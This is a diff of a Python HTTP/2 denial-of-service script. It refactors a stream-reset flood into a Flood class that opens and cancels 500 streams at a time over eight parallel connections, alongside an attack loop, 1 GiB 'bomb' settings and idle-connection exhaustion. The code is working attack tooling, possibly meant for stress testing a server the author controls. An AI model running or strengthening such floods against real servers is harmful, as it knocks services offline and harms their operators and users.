@@ -16,7 +16,7 @@ from collections import Counter
 from collections.abc import Callable, Iterator
 from contextlib import suppress
 from dataclasses import dataclass, field
-from typing import Any
+from typing import Any, Protocol
 
 from h2.config import H2Configuration
 from h2.connection import H2Connection
@@ -37,7 +37,7 @@ UNFINISHED, UNFINISHED_BYTES = 900, 4 << 20
 """Messages that lack their last byte."""
 
 BOMB_BYTES = 1 << 30
-RESETS_AT_ONCE = 500
+RESETS_AT_ONCE, FLOODS = 500, 8
 IDLE_CONNECTIONS = 1100
 PATIENCE = 0.02
 REST = 0.005
@@ -133,8 +133,8 @@ class Attacker:
             part, left = left[:room], left[room:]
             self._http.send_data(call, bytes(part), end_stream=self._whole and not left)
             self._tally.sent += len(part)
-            self._flush()
         self._left[call] = left
+        self._flush()
 
     def _flush(self) -> None:
         data = self._http.data_to_send()
@@ -175,9 +175,18 @@ def connected(address: str) -> socket.socket:
     return connection
 
 
-def attack(make: Callable[[], Attacker], count: int, seconds: float, tally: Tally) -> dict[str, Any]:
+class Connected(Protocol):
+    """A connection at work."""
+
+    socket: socket.socket
+
+    def step(self) -> None:
+        """A little of it."""
+
+
+def attack(make: Callable[[], Connected], count: int, seconds: float, tally: Tally) -> dict[str, Any]:
     """Keep so many connections at work, and make those again that the server closes."""
-    until, attackers = time.monotonic() + seconds, list[Attacker]()
+    until, attackers = time.monotonic() + seconds, list[Connected]()
     while time.monotonic() < until:
         with suppress(OSError):
             while len(attackers) < count:
@@ -195,7 +204,7 @@ def attack(make: Callable[[], Attacker], count: int, seconds: float, tally: Tall
     return tally.told()
 
 
-def wait(attackers: list[Attacker]) -> None:
+def wait(attackers: list[Connected]) -> None:
     """Until one of them has something to take, or for a moment."""
     with selectors.DefaultSelector() as selector:
         for attacker in attackers:
@@ -278,31 +287,43 @@ def bombs(address: str, seconds: float) -> dict[str, Any]:
     )
 
 
+class Flood:
+    """A connection on which calls are made and given up at once.
+
+    Args:
+        address: HOST:PORT.
+        tally: counts.
+    """
+
+    def __init__(self, address: str, tally: Tally) -> None:
+        self.socket, self._tally = connected(address), tally
+        self._frames, self._left = floods(VERIFY), memoryview(PREFACE)
+        tally.connections += 1
+
+    def step(self) -> None:
+        """Send what may be sent, and take what has come.
+
+        Raises:
+            OSError: the server has closed the connection.
+        """
+        with suppress(BlockingIOError):
+            while True:
+                if not self._left:
+                    self._left = memoryview(next(self._frames))
+                    self._tally.calls += RESETS_AT_ONCE
+                sent = self.socket.send(self._left)
+                self._left = self._left[sent:]
+                self._tally.sent += sent
+        with suppress(BlockingIOError):
+            while self.socket.recv(1 << 16):
+                pass
+            raise ConnectionResetError
+
+
 def resets(address: str, seconds: float) -> dict[str, Any]:
-    """Calls that are given up at once, as fast as they can be sent."""
-    tally, until = Tally(), time.monotonic() + seconds
-    while time.monotonic() < until:
-        try:
-            with connected(address) as connection:
-                tally.connections += 1
-                connection.settimeout(1.0)
-                connection.sendall(PREFACE)
-                for data in floods(VERIFY):
-                    connection.sendall(data)
-                    tally.calls += RESETS_AT_ONCE
-                    tally.sent += len(data)
-                    connection.setblocking(False)
-                    with suppress(BlockingIOError):
-                        while connection.recv(1 << 16):
-                            pass
-                        break
-                    connection.settimeout(1.0)
-                    if time.monotonic() > until:
-                        return tally.told()
-        except OSError:
-            pass
-        tally.closed += 1
-    return tally.told()
+    """Calls that are given up at once, as fast as they can be sent, over eight connections."""
+    tally = Tally()
+    return attack(lambda: Flood(address, tally), FLOODS, seconds, tally)
 
 
 def floods(path: str) -> Iterator[bytes]:
